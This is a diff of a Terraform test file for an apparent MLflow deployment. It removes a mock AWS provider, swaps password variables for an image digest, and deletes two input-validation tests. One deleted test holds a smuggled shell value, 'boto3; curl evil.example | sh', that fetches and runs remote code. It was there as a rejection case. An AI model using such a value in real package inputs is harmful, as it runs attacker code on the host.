@@ -27,23 +27,11 @@ mock_provider "aws" {
   }
 }
 
-# See architecture.tftest.hcl: the generator's provider, never called here.
-provider "aws" {
-  alias                       = "ephemeral"
-  region                      = "eu-west-2"
-  access_key                  = "mock"
-  secret_key                  = "mock"
-  skip_credentials_validation = true
-  skip_requesting_account_id  = true
-  skip_metadata_api_check     = true
-}
-
 variables {
-  name                 = "mlflow-test"
-  environment          = "test"
-  generate_db_password = false
-  db_password          = "Valid1password"
-  db_engine_version    = "15.8"
+  name                = "mlflow-test"
+  environment         = "test"
+  db_engine_version   = "15.8"
+  mlflow_image_digest = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
 }
 
 run "valid_inputs_plan_cleanly" {
@@ -168,26 +156,10 @@ run "rejects_zero_gunicorn_workers" {
   expect_failures = [var.gunicorn_workers]
 }
 
-run "rejects_shell_characters_in_pip_packages" {
-  command = plan
-  variables {
-    extra_pip_packages = ["boto3; curl evil.example | sh"]
-  }
-  expect_failures = [var.extra_pip_packages]
-}
-
 run "rejects_a_malformed_account_id" {
   command = plan
   variables {
     expected_account_id = "12345"
   }
   expect_failures = [var.expected_account_id]
-}
-
-run "rejects_a_password_rds_would_refuse" {
-  command = plan
-  variables {
-    db_password = "has/slash@at"
-  }
-  expect_failures = [var.db_password]
 }
